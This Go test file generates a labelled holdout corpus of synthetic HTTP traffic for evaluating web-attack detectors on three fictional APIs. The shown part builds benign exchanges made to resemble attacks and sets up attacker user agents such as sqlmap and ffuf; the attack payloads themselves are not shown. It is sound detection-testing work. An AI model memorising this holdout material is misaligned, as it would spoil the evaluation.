// Holdout corpus 7: an independent labelled test corpus for the eight stateless
// technique detectors, written from docs/detect.md, docs/traffic-format.md and
// exchange.go only (no detector source, no other corpus or generator was read).
//
// Three APIs:
//   - api.coinvault.test: a crypto exchange (market data, orders, wallets,
//     withdrawals, API keys with HMAC request signatures);
//   - cms.harbortimes.test: a headless CMS / news publishing API (articles with
//     rich HTML, embeds, comments, media uploads, editorial workflow, search,
//     GraphQL, WXR/XML import);
//   - data.metrocity.test: a city open-data and transit API (public datasets,
//     large legitimate pages and exports, geo queries, an authenticated admin).
//
// About 70% of the exchanges are benign and made to look close to attacks; the
// attacks are written the way sqlmap, ffuf/wfuzz wordlists, nuclei templates,
// Burp Intruder and manual probing write them, in every place a value can sit.
// labels.jsonl lists, for each exchange, every stateless detector that should
// report it (an empty list: benign).
//
// Regenerate with:
//
//	go test ./detect/ -run TestHoldout7Generate -update-holdout7
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var updateHoldout7 = flag.Bool("update-holdout7", false, "rewrite detect/testdata/holdout7 from its generator")

const (
	h7DetSQLi  = "detect.injection.sqli"
	h7DetXSS   = "detect.injection.xss"
	h7DetOther = "detect.injection.other"
	h7DetSSRF  = "detect.ssrf"
	h7DetJWT   = "detect.auth.jwt"
	h7DetVerb  = "detect.misconfig.verbose"
	h7DetSens  = "detect.exposure.sensitive"
	h7DetLim   = "detect.resource.limits"

	h7Coin = "api.coinvault.test"
	h7CMS  = "cms.harbortimes.test"
	h7Data = "data.metrocity.test"
)

var h7Base = time.Date(2026, 11, 24, 8, 0, 0, 0, time.UTC)

var h7JWTKey = []byte("h7-holdout-fixed-hs256-key-not-a-real-secret-2026")

type h7TLS struct {
	Version     string `json:"version"`
	CipherSuite string `json:"cipher_suite"`
	ServerName  string `json:"server_name"`
	ALPN        string `json:"alpn"`
}

type h7Client struct {
	Addr string `json:"addr"`
	TLS  *h7TLS `json:"tls,omitempty"`
}

type h7Req struct {
	Method   string              `json:"method"`
	URL      string              `json:"url"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers"`
	Body     string              `json:"body"`
	BodySize int                 `json:"body_size"`
}

type h7Resp struct {
	Status    int                 `json:"status"`
	Proto     string              `json:"proto"`
	Headers   map[string][]string `json:"headers"`
	Body      string              `json:"body"`
	BodySize  int                 `json:"body_size"`
	Truncated bool                `json:"truncated,omitempty"`
}

type h7Exchange struct {
	ID         string   `json:"id"`
	Time       string   `json:"time"`
	Client     h7Client `json:"client"`
	Request    h7Req    `json:"request"`
	Response   *h7Resp  `json:"response,omitempty"`
	DurationMS float64  `json:"duration_ms"`
}

type h7Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

// h7Item is one exchange before ids and times are given.
type h7Item struct {
	x      h7Exchange
	labels []string
}

// h7Actor is who sends a request: network, device and credentials.
type h7Actor struct {
	ip    string
	ua    string
	token string // bearer JWT, "" for none
	role  string
	sub   string
}

type h7Gen struct {
	r     *rand.Rand
	items []h7Item
}

func (g *h7Gen) pick(xs []string) string { return xs[g.r.Intn(len(xs))] }

func (g *h7Gen) hexs(n int) string {
	const a = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[g.r.Intn(16)]
	}
	return string(b)
}

func (g *h7Gen) alnum(n int) string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[g.r.Intn(len(a))]
	}
	return string(b)
}

func (g *h7Gen) upnum(n int) string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[g.r.Intn(len(a))]
	}
	return string(b)
}

func (g *h7Gen) b58(n int) string {
	const a = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
	b := make([]byte, n)
	for i := range b {
		b[i] = a[g.r.Intn(len(a))]
	}
	return string(b)
}

func h7B64URL(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func h7JSON(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// h7JWT signs header and claims with the corpus key (HS256).
func h7JWT(header, claims map[string]any) string {
	s := h7B64URL([]byte(h7JSON(header))) + "." + h7B64URL([]byte(h7JSON(claims)))
	m := hmac.New(sha256.New, h7JWTKey)
	m.Write([]byte(s))
	return s + "." + h7B64URL(m.Sum(nil))
}

func h7ValidClaims(iss, sub, role string) map[string]any {
	return map[string]any{
		"iss":  "https://auth." + iss,
		"sub":  sub,
		"aud":  iss,
		"role": role,
		"iat":  h7Base.Add(-2 * time.Hour).Unix(),
		"nbf":  h7Base.Add(-2 * time.Hour).Unix(),
		"exp":  h7Base.Add(45 * 24 * time.Hour).Unix(),
	}
}

func h7Token(host, sub, role string) string {
	return h7JWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, h7ValidClaims(host, sub, role))
}

// h7Luhn completes a card number prefix of length n-1 with its check digit.
func h7Luhn(prefix string) string {
	sum := 0
	double := true
	for i := len(prefix) - 1; i >= 0; i-- {
		d := int(prefix[i] - '0')
		if double {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		double = !double
	}
	return prefix + fmt.Sprint((10-sum%10)%10)
}

func h7Hdr(kv ...string) map[string][]string {
	h := map[string][]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		h[kv[i]] = append(h[kv[i]], kv[i+1])
	}
	return h
}

// h7JSONHeaders is what the three APIs send with a JSON body.
func h7JSONHeaders(extra ...string) map[string][]string {
	h := h7Hdr("Content-Type", "application/json; charset=utf-8",
		"Cache-Control", "no-store",
		"X-Content-Type-Options", "nosniff",
		"Strict-Transport-Security", "max-age=31536000; includeSubDomains")
	for i := 0; i+1 < len(extra); i += 2 {
		h[extra[i]] = []string{extra[i+1]}
	}
	return h
}

// add appends an exchange (body "" means none) and returns it, valid until the
// next add.
func (g *h7Gen) add(a h7Actor, method, rawURL string, hdr map[string][]string, body string, status int, respHdr map[string][]string, respBody string, labels ...string) *h7Item {
	u, err := url.Parse(rawURL)
	if err != nil {
		panic(fmt.Sprintf("%s: %v", rawURL, err))
	}
	h := map[string][]string{}
	for k, v := range hdr {
		h[k] = append([]string(nil), v...)
	}
	if _, ok := h["User-Agent"]; !ok && a.ua != "" {
		h["User-Agent"] = []string{a.ua}
	}
	if _, ok := h["Accept"]; !ok {
		h["Accept"] = []string{"application/json"}
	}
	if a.token != "" {
		if _, ok := h["Authorization"]; !ok {
			h["Authorization"] = []string{"Bearer " + a.token}
		}
	}
	if respHdr == nil {
		respHdr = h7JSONHeaders()
	}
	it := h7Item{x: h7Exchange{
		Client: h7Client{Addr: fmt.Sprintf("%s:%d", a.ip, 30000+g.r.Intn(30000)),
			TLS: &h7TLS{Version: "1.3", CipherSuite: "TLS_AES_128_GCM_SHA256", ServerName: u.Hostname(), ALPN: "h2"}},
		Request:    h7Req{Method: method, URL: rawURL, Proto: "HTTP/2.0", Headers: h, Body: body, BodySize: len(body)},
		Response:   &h7Resp{Status: status, Proto: "HTTP/2.0", Headers: respHdr, Body: respBody, BodySize: len(respBody)},
		DurationMS: float64(5+g.r.Intn(400)) + float64(g.r.Intn(10))/10,
	}, labels: append([]string{}, labels...)}
	g.items = append(g.items, it)
	return &g.items[len(g.items)-1]
}

func h7Q(s string) string { return url.QueryEscape(s) }

// h7QP escapes a query value with %20 for spaces, as browsers and Burp do.
func h7QP(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }

// h7PathEsc escapes a path segment.
func h7PathEsc(s string) string { return url.PathEscape(s) }

// h7UEsc writes a JSON string with every non-alphanumeric ASCII byte as \u00XX:
// how some clients and evasive payloads send JSON.
func h7UEsc(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range []byte(s) {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == ' ' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "\\u%04x", c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func TestHoldout7Generate(t *testing.T) {
	g := &h7Gen{r: rand.New(rand.NewSource(7007))}
	w := h7NewWorld(g)
	benign := h7Benign(g, w)
	attacks := h7Attacks(g, w)
	// Interleave: benign traffic in its own order, attacks spread among it
	// deterministically, after a warm-up of benign traffic.
	ordered := make([]h7Item, 0, len(benign)+len(attacks))
	warm := 150
	ordered = append(ordered, benign[:warm]...)
	rest := benign[warm:]
	ai := 0
	for i, b := range rest {
		ordered = append(ordered, b)
		want := (i + 1) * len(attacks) / len(rest)
		for ai < want {
			ordered = append(ordered, attacks[ai])
			ai++
		}
	}
	ordered = append(ordered, attacks[ai:]...)

	var traffic, labels bytes.Buffer
	tm := h7Base
	counts := map[string]int{}
	nb := 0
	for i, it := range ordered {
		tm = tm.Add(time.Duration(400+g.r.Intn(2600)) * time.Millisecond)
		x := it.x
		x.ID = fmt.Sprintf("y%05d", i+1)
		x.Time = tm.Format("2006-01-02T15:04:05.000Z")
		enc := json.NewEncoder(&traffic)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(x); err != nil {
			t.Fatal(err)
		}
		ls := it.labels
		if ls == nil {
			ls = []string{}
		}
		if len(ls) == 0 {
			nb++
		}
		for _, l := range ls {
			counts[l]++
		}
		enc = json.NewEncoder(&labels)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(h7Label{ID: x.ID, Detectors: ls}); err != nil {
			t.Fatal(err)
		}
	}
	t.Logf("holdout7: %d exchanges, %d benign", len(ordered), nb)
	for _, d := range []string{h7DetSQLi, h7DetXSS, h7DetOther, h7DetSSRF, h7DetJWT, h7DetVerb, h7DetSens, h7DetLim} {
		t.Logf("  %-28s %d", d, counts[d])
		if counts[d] < 60 {
			t.Errorf("%s: only %d attacks", d, counts[d])
		}
	}
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout7"), *updateHoldout7, "go test ./detect/ -run TestHoldout7Generate -update-holdout7", traffic.Bytes(), labels.Bytes())
}

type h7World struct {
	traders, bots, coinAnon  []h7Actor
	editors, authors, reader []h7Actor
	cmsAnon                  []h7Actor
	dataAnon, stewards, adms []h7Actor
	attackers                []h7Actor
	botKeys, botKeyIDs       map[string]string
	expiredCoin, expiredCMS  []string
}

var h7UAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
	"CoinVault/5.12.0 (iOS 18.1; iPhone15,2)",
	"CoinVault/5.11.3 (Android 14; SM-S918B)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
}

func (g *h7Gen) ip() string {
	firsts := []int{24, 31, 46, 62, 73, 81, 86, 92, 98, 109, 145, 151, 176, 188, 203, 212}
	return fmt.Sprintf("%d.%d.%d.%d", firsts[g.r.Intn(len(firsts))], 10+g.r.Intn(240), g.r.Intn(250), 2+g.r.Intn(250))
}

func h7NewWorld(g *h7Gen) *h7World {
	w := &h7World{botKeys: map[string]string{}, botKeyIDs: map[string]string{}}
	mk := func(n int, host, prefix, role string, uas []string, withTok bool) []h7Actor {
		var out []h7Actor
		for i := 0; i < n; i++ {
			a := h7Actor{ip: g.ip(), ua: uas[g.r.Intn(len(uas))], role: role, sub: fmt.Sprintf("%s%04d", prefix, 100+g.r.Intn(9000))}
			if withTok {
				a.token = h7Token(host, a.sub, role)
			}
			out = append(out, a)
		}
		return out
	}
	w.traders = mk(45, h7Coin, "usr_", "trader", h7UAs, true)
	w.bots = mk(12, h7Coin, "bot_", "", []string{"ccxt/4.4.31 (+https://github.com/ccxt/ccxt) Python/3.12.7", "python-requests/2.32.3", "Go-http-client/2.0", "axios/1.7.7"}, false)
	for _, b := range w.bots {
		w.botKeys[b.sub] = g.alnum(64)
		w.botKeyIDs[b.sub] = "cvk_" + g.alnum(32)
	}
	w.coinAnon = mk(30, h7Coin, "anon", "", append(h7UAs[:5:5], "TradingView/1.0", "okhttp/4.12.0"), false)
	w.editors = mk(6, h7CMS, "ed-", "editor", h7UAs[:5], true)
	w.authors = mk(16, h7CMS, "au-", "author", h7UAs[:5], true)
	w.reader = mk(45, h7CMS, "rd-", "subscriber", h7UAs, true)
	w.cmsAnon = mk(30, h7CMS, "anon", "", append(h7UAs[:5:5], "HarborTimesApp/3.2 (Android 14)", "Next.js Middleware", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"), false)
	w.dataAnon = mk(70, h7Data, "anon", "", append(h7UAs[:5:5], "python-requests/2.32.3", "R (4.4.1 x86_64-pc-linux-gnu x86_64 linux-gnu)", "QGIS/33800", "curl/8.5.0", "TransitApp/6.1 (iPhone; iOS 18.1)", "Wget/1.21.4"), false)
	w.stewards = mk(5, h7Data, "st-", "steward", h7UAs[:3], true)
	w.adms = mk(3, h7Data, "adm-", "admin", h7UAs[:3], true)
	atkUAs := []string{
		"sqlmap/1.8.11#stable (https://sqlmap.org)",
		"Fuzz Faster U Fool v2.1.0-dev",
		"Wfuzz/3.1.0",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.86 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Safari/537.36",
		"curl/8.7.1",
		"python-requests/2.31.0",
		"Go-http-client/1.1",
	}
	atkIPs := []string{"185.220.101.47", "45.155.205.233", "193.142.146.35", "5.188.62.140", "91.240.118.172", "104.234.11.9", "146.70.117.38", "194.26.29.120"}
	for i, ip := range atkIPs {
		a := h7Actor{ip: ip, ua: atkUAs[i%len(atkUAs)], sub: fmt.Sprintf("usr_9%03d", 100+i)}
		a.role = "trader"
		w.attackers = append(w.attackers, a)
	}
	// Tokens that expired during the previous week: refused with 401.
	for i := 0; i < 8; i++ {
		c := h7ValidClaims(h7Coin, fmt.Sprintf("usr_%04d", 200+i*37), "trader")
		c["iat"] = h7Base.Add(-9 * 24 * time.Hour).Unix()
		c["nbf"] = c["iat"]
		c["exp"] = h7Base.Add(-time.Duration(20+i*7) * time.Hour).Unix()
		w.expiredCoin = append(w.expiredCoin, h7JWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, c))
		c2 := h7ValidClaims(h7CMS, fmt.Sprintf("rd-%04d", 300+i*41), "subscriber")
		c2["iat"] = h7Base.Add(-3 * 24 * time.Hour).Unix()
		c2["nbf"] = c2["iat"]
		c2["exp"] = h7Base.Add(-time.Duration(3+i) * time.Hour).Unix()
		w.expiredCMS = append(w.expiredCMS, h7JWT(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-10-key_2"}, c2))
	}
	return w
}

var h7Symbols = []string{"BTC-USDT", "ETH-USDT", "SOL-USDT", "XRP-USDT", "ETH-BTC", "ADA-USDT", "DOGE-USDT", "LINK-EUR", "BTC-EUR", "AVAX-USDT"}

func (g *h7Gen) btcAddr() string {
	if g.r.Intn(2) == 0 {
		return "bc1q" + strings.ToLower(g.upnum(38))
	}
	return "1" + g.b58(33)
}

func (g *h7Gen) ethAddr() string { return "0x" + g.hexs(40) }

func (g *h7Gen) price() string { return fmt.Sprintf("%d.%02d", 100+g.r.Intn(90000), g.r.Intn(100)) }

// h7CoinSign returns the HMAC headers a bot sends with a signed request.
func (g *h7Gen) coinSign(w *h7World, b h7Actor, method, path, body string) map[string][]string {
	ts := fmt.Sprint(h7Base.UnixMilli() + int64(g.r.Intn(3600000)))
	m := hmac.New(sha256.New, []byte(w.botKeys[b.sub]))
	m.Write([]byte(ts + method + path + body))
	return h7Hdr("X-Api-Key", w.botKeyIDs[b.sub], "X-Api-Timestamp", ts, "X-Api-Signature", hex.EncodeToString(m.Sum(nil)), "X-Api-Recv-Window", "5000")
}

func (g *h7Gen) coinBenign(w *h7World) {
	sym := g.pick(h7Symbols)
	tr := w.traders[g.r.Intn(len(w.traders))]
	anon := w.coinAnon[g.r.Intn(len(w.coinAnon))]
	bot := w.bots[g.r.Intn(len(w.bots))]
	H := "https://" + h7Coin
	switch k := g.r.Intn(24); k {
	case 0, 1:
		g.add(anon, "GET", H+"/api/v3/market/ticker?symbol="+sym, nil, "", 200, h7JSONHeaders("Access-Control-Allow-Origin", "*"),
			h7JSON(map[string]any{"symbol": sym, "last": g.price(), "bid": g.price(), "ask": g.price(), "volume_24h": g.price(), "change_24h": "-1.84"}))
	case 2:
		lim := []int{5, 20, 50, 100, 500, 1000}[g.r.Intn(6)]
		var bids [][2]string
		for i := 0; i < 5; i++ {
			bids = append(bids, [2]string{g.price(), fmt.Sprintf("0.%04d", g.r.Intn(9999))})
		}
		g.add(bot, "GET", fmt.Sprintf("%s/api/v3/market/depth?symbol=%s&limit=%d", H, sym, lim), nil, "", 200, nil,
			h7JSON(map[string]any{"symbol": sym, "lastUpdateId": 48213000000 + g.r.Intn(999999), "bids": bids, "asks": bids, "truncated_for_capture": lim > 5}))
	case 3:
		iv := g.pick([]string{"1m", "5m", "1h", "4h", "1d"})
		lim := []int{200, 500, 1000}[g.r.Intn(3)]
		g.add(anon, "GET", fmt.Sprintf("%s/api/v3/market/klines?symbol=%s&interval=%s&limit=%d&startTime=%d", H, sym, iv, lim, h7Base.Add(-30*24*time.Hour).UnixMilli()), nil, "", 200, nil,
			h7JSON([][]any{{h7Base.UnixMilli(), g.price(), g.price(), g.price(), g.price(), "12.0431"}, {h7Base.UnixMilli() + 60000, g.price(), g.price(), g.price(), g.price(), "8.5512"}}))
	case 4:
		g.add(anon, "GET", fmt.Sprintf("%s/api/v3/market/trades?symbol=%s&limit=500", H, sym), nil, "", 200, nil,
			h7JSON([]map[string]any{{"id": 902113000 + g.r.Intn(99999), "price": g.price(), "qty": "0.0150", "side": "buy", "trade_hash": g.hexs(64)}}))
	case 5, 6:
		coid := "web-" + g.hexs(8) + "-" + g.hexs(4)
		body := h7JSON(map[string]any{"symbol": sym, "side": g.pick([]string{"buy", "sell"}), "type": g.pick([]string{"limit", "market", "stop_limit"}), "price": g.price(), "quantity": fmt.Sprintf("0.%03d", 1+g.r.Intn(999)), "timeInForce": "GTC", "clientOrderId": coid})
		g.add(tr, "POST", H+"/api/v3/orders", h7Hdr("Content-Type", "application/json", "Origin", "https://app.coinvault.test"), body, 201,
			h7JSONHeaders("Access-Control-Allow-Origin", "https://app.coinvault.test", "Access-Control-Allow-Credentials", "true", "Vary", "Origin"),
			h7JSON(map[string]any{"orderId": 77120000000 + g.r.Intn(9999999), "clientOrderId": coid, "status": "NEW", "symbol": sym}))
	case 7:
		path := "/api/v3/orders"
		body := h7JSON(map[string]any{"symbol": sym, "side": "sell", "type": "limit", "price": g.price(), "quantity": "0.250", "timeInForce": "IOC", "clientOrderId": "grid-" + g.hexs(12)})
		g.add(bot, "POST", H+path, g.coinSign(w, bot, "POST", path, body), body, 201, nil,
			h7JSON(map[string]any{"orderId": 77120000000 + g.r.Intn(9999999), "status": "FILLED", "fills": []map[string]any{{"price": g.price(), "qty": "0.250", "commission": "0.00025", "commissionAsset": "BNB"}}}))
	case 8:
		id := 77120000000 + g.r.Intn(9999999)
		g.add(tr, "DELETE", fmt.Sprintf("%s/api/v3/orders/%d", H, id), nil, "", 200, nil, h7JSON(map[string]any{"orderId": id, "status": "CANCELED"}))
	case 9:
		g.add(tr, "GET", fmt.Sprintf("%s/api/v3/orders?status=open&symbol=%s&limit=%d", H, sym, []int{20, 50, 100}[g.r.Intn(3)]), nil, "", 200, nil,
			h7JSON(map[string]any{"orders": []map[string]any{{"orderId": 77120000000 + g.r.Intn(9999999), "symbol": sym, "price": g.price(), "status": "NEW"}}, "next_cursor": h7B64URL([]byte(g.hexs(16)))}))
	case 10:
		g.add(tr, "GET", H+"/api/v3/wallets", nil, "", 200, nil, h7JSON(map[string]any{"wallets": []map[string]any{
			{"asset": "BTC", "available": "0.48211", "deposit_address": g.btcAddr()},
			{"asset": "ETH", "available": "3.1102", "deposit_address": g.ethAddr()},
			{"asset": "SOL", "available": "120.5", "deposit_address": g.b58(44)},
			{"asset": "XRP", "available": "900", "deposit_address": "r" + g.b58(33), "destination_tag": fmt.Sprint(100000 + g.r.Intn(899999))},
		}}))
	case 11:
		asset := g.pick([]string{"ETH", "BTC", "USDT"})
		addr := g.ethAddr()
		if asset == "BTC" {
			addr = g.btcAddr()
		}
		body := h7JSON(map[string]any{"asset": asset, "network": g.pick([]string{"ERC20", "BTC", "ARBITRUM", "TRC20"}), "address": addr, "amount": "0.75", "memo": "to my cold wallet", "totp_code": fmt.Sprintf("%06d", g.r.Intn(999999))})
		g.add(tr, "POST", H+"/api/v3/withdrawals", h7Hdr("Content-Type", "application/json"), body, 202, nil,
			h7JSON(map[string]any{"id": "wd_" + g.alnum(20), "status": "pending_review", "fee": "0.0004"}))
	case 12:
		g.add(tr, "GET", H+"/api/v3/withdrawals?asset=ETH&limit=20", nil, "", 200, nil,
			h7JSON(map[string]any{"withdrawals": []map[string]any{{"id": "wd_" + g.alnum(20), "tx_hash": "0x" + g.hexs(64), "address": g.ethAddr(), "status": "completed", "block": 21330000 + g.r.Intn(9999)}}}))
	case 13:
		g.add(tr, "GET", H+"/api/v3/api-keys", nil, "", 200, nil, h7JSON(map[string]any{"api_keys": []map[string]any{
			{"key_id": "cvk_" + g.alnum(24), "label": "grid bot", "permissions": []string{"read", "trade"}, "ip_whitelist": []string{"203.0.113.24", "198.51.100.0/24"}, "secret_hint": "••••" + g.hexs(4), "created_at": "2026-10-02T11:20:00Z"},
		}}))
	case 14:
		g.add(tr, "GET", H+"/api/v3/fiat/cards", nil, "", 200, nil, h7JSON(map[string]any{"cards": []map[string]any{
			{"id": "card_" + g.alnum(14), "brand": "visa", "number": "4242 XXXX XXXX " + fmt.Sprintf("%04d", g.r.Intn(9999)), "exp": "08/29"},
			{"id": "card_" + g.alnum(14), "brand": "mastercard", "last4": fmt.Sprintf("%04d", g.r.Intn(9999)), "display": "**** **** **** " + fmt.Sprintf("%04d", g.r.Intn(9999))},
		}}))
	case 15:
		pi := "pi_3Q" + g.alnum(22)
		g.add(tr, "POST", H+"/api/v3/fiat/deposits", h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"amount": 25000, "currency": "EUR", "method": "card"}), 201, nil,
			h7JSON(map[string]any{"deposit_id": "dep_" + g.alnum(16), "payment_intent": pi, "client_secret": pi + "_secret_" + g.alnum(25), "publishable_key": "pk_live_51N" + g.alnum(80)}))
	case 16:
		body := h7JSON(map[string]any{"url": g.pick([]string{"https://bot.tradingdesk.example/cv/webhook", "https://hooks.zapier.com/hooks/catch/1234567/abcde1/", "https://54.239.28.85/cv-events", "https://my-bot.fly.dev/events"}), "events": []string{"order.filled", "withdrawal.completed"}})
		g.add(tr, "POST", H+"/api/v3/webhooks", h7Hdr("Content-Type", "application/json"), body, 201, nil, h7JSON(map[string]any{"id": "wh_" + g.alnum(12), "signing_key_hint": "••••" + g.alnum(4)}))
	case 17:
		g.add(tr, "GET", H+"/api/v3/account/activity?limit=50", nil, "", 200, nil, h7JSON(map[string]any{"events": []map[string]any{
			{"type": "login", "ip": tr.ip, "device": "Chrome on Windows", "note": "Sign-in from your usual network"},
			{"type": "api_key.used", "ip": "203.0.113.24", "note": "Key used by grid bot"},
		}}))
	case 18:
		msg := h7JSON(map[string]any{"address": g.ethAddr(), "message": "CoinVault proof of ownership " + g.hexs(16), "signature": "0x" + g.hexs(130)})
		g.add(tr, "POST", H+"/api/v3/wallets/verify-message", h7Hdr("Content-Type", "application/json"), msg, 200, nil, `{"valid":true}`)
	case 19:
		tok := w.expiredCoin[g.r.Intn(len(w.expiredCoin))]
		g.add(h7Actor{ip: tr.ip, ua: tr.ua}, "GET", H+"/api/v3/wallets", h7Hdr("Authorization", "Bearer "+tok), "", 401,
			h7JSONHeaders("WWW-Authenticate", `Bearer error="invalid_token", error_description="The access token expired"`), `{"error":"invalid_token","message":"token expired"}`)
	case 20:
		texts := []string{
			"My order got stuck. I tried to select all orders and cancel them but the 'Cancel all' button did nothing. Order ids 77120004411 and 77120004412.",
			"Withdrawal to my Ledger has been pending for 3 hours. Address starts with bc1q, is it the network fee? Thanks, Sean O'Neil",
			"Your API returns 1=1 equal prices for bid and ask on ETH-BTC sometimes; drop me a note when fixed.",
			"Is there a way to union my two sub-accounts? I'd like to delete the old one.",
			"The app crashed with some kind of null pointer exception when I opened the stack of limit orders. Screenshot attached.",
		}
		g.add(tr, "POST", H+"/api/v3/support/tickets", h7Hdr("Content-Type", "application/json"), h7JSON(map[string]any{"subject": "Help with my account", "body": g.pick(texts), "category": "trading"}), 201, nil, h7JSON(map[string]any{"ticket": fmt.Sprintf("CV-%06d", g.r.Intn(999999))}))
	case 21:
		path := "/api/v3/account/balances"
		g.add(bot, "GET", H+path+"?recvWindow=5000", g.coinSign(w, bot, "GET", path, ""), "", 200, nil, h7JSON(map[string]any{"balances": []map[string]any{{"asset": "USDT", "free": "10231.55", "locked": "400.00"}}}))
	case 22:
		g.add(anon, "OPTIONS", H+"/api/v3/market/ticker?symbol="+sym, h7Hdr("Origin", "https://www.tradingview.com", "Access-Control-Request-Method", "GET"), "", 204,
			h7Hdr("Access-Control-Allow-Origin", "*", "Access-Control-Allow-Methods", "GET, OPTIONS", "Access-Control-Max-Age", "600"), "")
	default:
		id := 77120000000 + g.r.Intn(9999999)
		g.add(tr, "GET", fmt.Sprintf("%s/api/v3/orders/%d", H, id), nil, "", 200, h7JSONHeaders("ETag", `W/"`+g.hexs(40)+`"`),
			h7JSON(map[string]any{"orderId": id, "symbol": sym, "status": "FILLED", "hash": g.hexs(64), "executedQty": "0.015"}))
	}
}

var h7Sections = []string{"politics", "business", "tech", "culture", "sport", "city", "science", "opinion"}

var h7Titles = []string{
	"Council approves 2027 budget after late-night session",
	"Union Station delays expected through spring",
	"Select committee report criticises harbour dredging plan",
	"Drop Table Tennis Club wins regional title",
	"How to read a stack trace without panicking",
	"O'Brien takes the lead in mayoral polls",
	"Tech desk: why your SQL query is slow, and how EXPLAIN helps",
	"Review: the new exhibition at the Modern is a 1=1 draw of old and new",
	"City to add 40 km of protected bike lanes",
	"Opinion: Shell out for transit, not for parking",
	"The NullPointerException that took down parking payments for a day",
}

// h7ArticleHTML is the rich body of an article, as editors write it.
func (g *h7Gen) articleHTML() string {
	parts := []string{
		`<p>The council voted <strong>7 to 4</strong> on Tuesday night after a <em>six-hour</em> debate.</p>`,
		`<figure class="image"><img src="https://cdn.harbortimes.test/media/2026/11/council-` + g.hexs(6) + `.jpg" alt="Councillors during the vote" width="1200" height="800"><figcaption>Photo: Dana Ruiz</figcaption></figure>`,
		`<blockquote class="pull-quote"><p>&ldquo;We can&rsquo;t select which streets get safe crossings,&rdquo; said O&rsquo;Brien.</p></blockquote>`,
		`<h2>What it means for riders</h2><ul><li>Fares stay at $2.75</li><li>Night buses every 20&nbsp;min</li></ul>`,
		`<p>Read the <a href="https://www.metrocity.test/budget/2027.pdf" target="_blank" rel="noopener">full budget (PDF)</a>.</p>`,
		`<table class="data"><thead><tr><th>Ward</th><th>Spend</th></tr></thead><tbody><tr><td>3</td><td>$1.2m</td></tr></tbody></table>`,
		`<p>Turnout rose from 31% to 38% &mdash; still less than half, and 2 &gt; 1 in most wards.</p>`,
		`<aside class="note"><p>Correction: an earlier version misspelled the name of Councillor D'Souza.</p></aside>`,
	}
	g.r.Shuffle(len(parts), func(i, j int) { parts[i], parts[j] = parts[j], parts[i] })
	return strings.Join(parts[:4+g.r.Intn(4)], "\n")
}

// h7TechSnippets are code blocks a tech-desk article quotes.
var h7TechSnippets = []string{
	"<p>Run it locally first:</p><pre><code class=\"language-bash\">docker compose up -d\ncurl -s http://localhost:8080/health | jq .status</code></pre>",
	"<p>The fix was one line:</p><pre><code class=\"language-go\">if err != nil &amp;&amp; !errors.Is(err, io.EOF) {\n    return err\n}</code></pre>",
	"<p>Use <code>git log --oneline | head</code> to see recent commits.</p>",
	"<p>In Python, <code>f\"Total: {price}\"</code> formats the price, and Jinja writes <code>Hello {{ name }}</code>.</p>",
	"<p>Configuration lives in <code>/etc/nginx/nginx.conf</code>; relative paths like <code>../README.md</code> are resolved from the repo root.</p>",
}

func (g *h7Gen) cmsBenign(w *h7World) {
	H := "https://" + h7CMS
	anon := w.cmsAnon[g.r.Intn(len(w.cmsAnon))]
	au := w.authors[g.r.Intn(len(w.authors))]
	ed := w.editors[g.r.Intn(len(w.editors))]
	rd := w.reader[g.r.Intn(len(w.reader))]
	sec := g.pick(h7Sections)
	id := 18000 + g.r.Intn(4000)
	title := g.pick(h7Titles)
